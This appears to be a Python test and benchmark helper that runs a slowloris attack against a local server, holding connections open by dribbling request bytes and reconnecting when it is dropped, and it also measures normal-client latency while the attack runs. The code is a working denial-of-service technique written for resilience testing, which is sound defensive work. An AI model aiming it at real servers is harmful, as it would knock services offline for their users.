"""A slowloris attack for tests and bench/slowloris.py: N connections that hold a worker's
slots, half dribbling a request head a byte every `interval`, half sending nothing, and coming
back on their next round when the server closed them (as slowloris does). One thread with a
selector; bounded by leaving the `with` block."""
from __future__ import annotations

import selectors
import socket
import threading
import time


class Slowloris:
    def __init__(self, port: int, n: int, interval: float = 0.5):
        self.port, self.n, self.interval = port, n, interval
        self.stop_flag = threading.Event()
        self.reconnects = 0
        self.thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stop_flag.set()
        self.thread.join(10)

    def _connect(self, sel, i):
        try:
            s = socket.create_connection(("127.0.0.1", self.port), timeout=2)
        except OSError:
            return
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ, [i, 0])

    def _run(self):
        sel = selectors.DefaultSelector()
        head = b"GET /healthz HTTP/1.1\r\nHost: t\r\nX-Slow: " + b"a" * 10000
        for i in range(self.n):
            self._connect(sel, i)
        next_drip, lost = time.monotonic(), []
        while not self.stop_flag.is_set():
            for key, _ in sel.select(0.05):  # the server closed one: come back, as an attacker would
                try:
                    if key.fileobj.recv(65536):
                        continue
                except OSError:
                    pass
                sel.unregister(key.fileobj)
                key.fileobj.close()
                lost.append(key.data[0])
            if time.monotonic() >= next_drip:
                next_drip += self.interval
                for i in lost:  # like slowloris: it finds its closed sockets on its next round
                    self.reconnects += 1
                    self._connect(sel, i)
                lost.clear()
                for key in list(sel.get_map().values()):
                    i, sent = key.data
                    if i % 2 == 0 and sent < len(head):  # even ones dribble, odd ones send nothing
                        try:
                            key.fileobj.send(head[sent:sent + 1])
                            key.data[1] += 1
                        except OSError:
                            pass
        for key in list(sel.get_map().values()):
            key.fileobj.close()


def latencies(port: int, n: int, timeout: float = 5.0) -> list[float]:
    """n sequential GET /healthz on fresh connections (a normal client); seconds each, inf if failed."""
    from helpers.http import request
    out = []
    for _ in range(n):
        t0 = time.perf_counter()
        try:
            ok = request(port, path="/healthz", timeout=timeout).status == 200
        except OSError:
            ok = False
        out.append(time.perf_counter() - t0 if ok else float("inf"))
    return out
